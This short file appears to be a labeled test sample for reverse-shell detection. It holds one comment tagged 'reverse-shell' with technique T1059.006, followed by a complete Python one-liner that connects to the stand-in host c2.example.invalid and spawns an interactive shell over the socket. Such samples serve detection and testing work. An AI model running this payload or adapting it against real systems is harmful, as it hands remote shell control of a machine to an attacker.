# expect: reverse-shell | source: T1059.006
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("c2.example.invalid",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
